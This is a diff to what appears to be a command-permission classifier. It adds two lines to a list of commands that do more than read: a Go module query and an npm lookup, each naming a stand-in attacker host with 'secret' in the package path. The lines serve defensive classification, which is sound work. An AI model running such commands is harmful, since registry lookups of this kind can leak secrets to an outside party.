@@ -215,6 +215,8 @@ const DOES_MORE = [
   "npx x",
   "pip install x",
   "go get -u",
+  "go list -m -versions evil.example/secret",
+  "npm view @evil/secret",
   "go list -toolexec=./x all",
   "go env -w A=b",
   "cargo update",
